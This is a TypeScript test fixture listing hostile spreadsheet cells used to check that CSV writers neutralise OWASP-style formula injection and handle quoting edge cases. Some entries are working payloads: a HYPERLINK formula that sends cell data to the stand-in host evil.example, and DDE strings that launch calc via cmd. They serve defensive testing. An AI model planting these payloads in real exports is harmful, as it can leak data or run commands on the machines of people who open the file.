/**
 * The hostile table every CSV writer is tested with (test/unit/datasets/csvWriters.test.ts): texts a spreadsheet would
 * run as a formula (OWASP "CSV injection": a first character `=`, `+`, `-`, `@`, tab or carriage return), texts that
 * already start with the `'` a writer adds, and texts that break naive quoting.
 */

/** A spreadsheet runs a cell that starts with one of these as a formula. */
export const FORMULA_START = /^[=+\-@\t\r]/u;

export const HOSTILE_CELLS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click here")',
  "=cmd|' /c calc'!A0",
  '@SUM(1,2)',
  '@SUM(1+1)*cmd|\'/C calc\'!A0',
  '+1+1',
  '-2+3',
  '- a list item, as chat answers start',
  '\t=1+1',
  '\r=1+1',
  '=1+1\nsecond line',
  // Already starting with the writer's `'`: told apart from one it added.
  "'=1+1",
  "''@x",
  "'plain",
  // Quoting: the delimiters, quotes, line breaks, space at the ends.
  'a,b;c\td',
  'say "hi"',
  'line one\r\nline two',
  '  padded  ',
  'plain text',
  'a=b (a formula character later is fine)',
  'émoji 🚀 and ﹦ (a small equals sign)',
];
